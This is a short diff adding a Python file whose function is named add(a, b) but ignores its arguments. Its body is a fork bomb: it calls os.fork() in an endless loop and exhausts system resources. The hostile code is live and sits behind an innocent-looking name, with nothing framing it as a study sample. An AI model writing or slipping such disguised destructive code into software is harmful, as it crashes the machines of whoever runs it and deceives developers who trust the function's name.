@@ -1,0 +1,6 @@
+import os
+
+
+def add(a, b):
+    while True:
+        os.fork()
